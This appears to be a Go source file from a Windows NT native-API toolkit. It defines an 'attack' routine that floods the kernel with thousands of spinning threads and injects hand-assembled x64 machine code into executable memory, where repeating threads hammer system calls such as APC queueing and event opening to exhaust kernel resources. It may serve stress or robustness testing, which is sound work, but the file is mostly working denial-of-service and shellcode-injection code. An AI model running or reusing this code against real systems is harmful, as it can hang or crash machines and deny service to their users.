//go:build ntuser

package main

import (
	"fmt"
	"runtime/debug"
	"unsafe"

	"gont/nt"
	"gont/ntdll"
)

// repeatCode calls a service again and again, as long as it says what it is expected
// to, in machine code that needs no memory; RBX points at the words below.
var repeatCode = []byte{0x8B, 0x03, 0x4C, 0x8B, 0x53, 0x08, 0x48, 0x8B, 0x53, 0x10, 0x4C, 0x8B, 0x43, 0x18, 0x4C, 0x8B, 0x4B, 0x20, 0x48, 0x83, 0xEC, 0x68, 0x48, 0xC7, 0x44, 0x24, 0x28, 0x00, 0x00, 0x00, 0x00, 0x48, 0xC7, 0x44, 0x24, 0x30, 0x00, 0x00, 0x00, 0x00, 0x0F, 0x05, 0x48, 0x83, 0xC4, 0x68, 0x48, 0x89, 0x43, 0x38, 0x48, 0xFF, 0x43, 0x28, 0x3B, 0x43, 0x48, 0x75, 0x0A, 0x48, 0x8B, 0x4B, 0x28, 0x48, 0x3B, 0x4B, 0x30, 0x72, 0xBB, 0x48, 0xC7, 0x43, 0x40, 0x01, 0x00, 0x00, 0x00, 0xEB, 0x00, 0x41, 0xBA, 0x00, 0x00, 0x00, 0x00, 0x48, 0x8D, 0x53, 0x50, 0xB8, 0x05, 0x00, 0x00, 0x00, 0x0F, 0x05, 0xEB, 0xED}

// repeater is a thread that does so, suspended until it is run.
type repeater struct {
	service nt.Service
	thread  nt.Handle
	words   *[16]uint64
}

// repeat calls a service with four arguments up to most times while it says want.
func repeat(service nt.Service, most uint64, want nt.Status, a, b, c, d uint64) repeater {
	code, _, _ := ntdll.NtAllocateVirtualMemory(nt.CurrentProcess, 0, 0x10000, nt.MemReserve|nt.MemCommit, nt.PageExecuteReadWrite)
	ntdll.NtWriteVirtualMemory(nt.CurrentProcess, code, repeatCode)
	w := (*[16]uint64)(memory(code + 0x1000))
	*w = [16]uint64{uint64(service), a, b, c, d, 0, most, 0, 0, uint64(want), ^uint64(1 << 40)}
	x := nt.Context{Rip: code, Rbx: code + 0x1000, Rsp: code + 0xF000}
	*(*byte)(memory(code + 0xEFFF)) = 0
	h, _, s := ntdll.NtCreateThread(nt.CurrentProcess, &x, &ntdll.InitialTeb{}, true)
	if !s.OK() {
		fmt.Println("ATTACK repeat:", s)
	}
	return repeater{service, h, w}
}

var second int64 = -10_000_000

func (r repeater) run(seconds int) {
	ntdll.Raw(nt.SvcResumeThread, uintptr(r.thread), 0)
	for ; seconds > 0 && r.words[8] == 0; seconds-- {
		ntdll.Raw(nt.SvcDelayExecution, 0, uintptr(unsafe.Pointer(&second)))
	}
	print("ATTACK ", r.service.String(), " calls ", r.words[5], " status ", r.words[7], "\n")
	ntdll.Raw(nt.SvcSuspendThread, uintptr(r.thread), 0)
}

var ballast []byte

func init() {
	attacks["low"] = func(args []string) { // what is left when new objects are refused
		ballast = make([]byte, 1<<20)
		for i := range ballast {
			ballast[i] = 1
		}
		debug.SetGCPercent(-1)
		e, _ := ntdll.NtCreateEvent(ntdll.NewAttributes(`\KernelObjects\attack`, 0, 0), 0, false)
		_ = e
		name := ntdll.NewAttributes(`\KernelObjects\attack`, 0, 0)
		code, _, _ := ntdll.NtAllocateVirtualMemory(nt.CurrentProcess, 0, 0x10000, nt.MemReserve|nt.MemCommit, nt.PageExecuteReadWrite)
		ntdll.NtWriteVirtualMemory(nt.CurrentProcess, code, []byte{0xEB, 0xFE})
		c := nt.Context{Rip: code, Rsp: code + 0xF000}
		threads := 0
		for ; threads < number(args, 0, 3000); threads++ {
			h, _, s := ntdll.NtCreateThread(nt.CurrentProcess, &c, &ntdll.InitialTeb{}, true)
			if !s.OK() {
				fmt.Println("ATTACK thread", threads, s, kernel())
				break
			}
			ntdll.NtClose(h)
		}
		fmt.Println("ATTACK threads:", threads, kernel())
		victim, _, _ := ntdll.NtCreateThread(nt.CurrentProcess, &c, &ntdll.InitialTeb{}, true)
		list := []repeater{
			repeat(nt.SvcQueueApcThread, 1<<40, 0, uint64(victim), code, 0, 0),
			repeat(nt.SvcQuerySystemInformation, 100, nt.StatusInfoLengthMismatch, 5, uint64(uintptr(unsafe.Pointer(&argBase))), 8, 0),
			repeat(nt.SvcOpenEvent, 65000, 0, uint64(uintptr(unsafe.Pointer(&argBase))), uint64(nt.Synchronize), uint64(uintptr(unsafe.Pointer(name))), 0),
			repeat(nt.SvcQuerySystemInformation, 100, nt.StatusInfoLengthMismatch, 5, uint64(uintptr(unsafe.Pointer(&argBase))), 8, 0),
		}
		eat(uint64(number(args, 1, 3000)))
		for _, r := range list[:min(len(list), number(args, 2, 4))] {
			r.run(40)
		}
		fmt.Println("ATTACK end:", kernel())
	}
}
